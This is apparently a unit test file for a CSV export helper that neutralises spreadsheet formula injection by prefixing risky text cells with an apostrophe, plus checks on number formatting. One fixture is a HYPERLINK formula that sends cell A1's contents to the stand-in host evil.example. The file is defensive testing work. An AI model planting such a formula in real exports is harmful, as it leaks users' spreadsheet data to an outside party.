import { csvCell, neutraliseFormula } from './weekly-report.csv';

describe('CSV formula injection (OWASP): text cells that start like a formula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', `'=HYPERLINK("http://evil.example/?d="&A1,"点击")`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['玉泉变 220 千伏变电站工程', '玉泉变 220 千伏变电站工程'],
    ['2026-11-20', '2026-11-20'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %j', (value, expected) => {
    expect(neutraliseFormula(value)).toBe(expected);
    expect(csvCell(value, 'text')).toBe(expected);
  });

  it('numbers we write stay numbers, negative ones too; text that looks negative is text', () => {
    expect(csvCell(-12, 'int')).toBe('-12');
    expect(csvCell('-125000', 'wan')).toBe('-12.5000'); // whole yuan → 万元
    expect(csvCell('-3.25', 'percent')).toBe('-3.25');
    expect(csvCell(-0.5, 'decimal')).toBe('-0.5');
    expect(csvCell('-3', 'text')).toBe("'-3");
    expect(csvCell(null, 'text')).toBe('');
  });
});
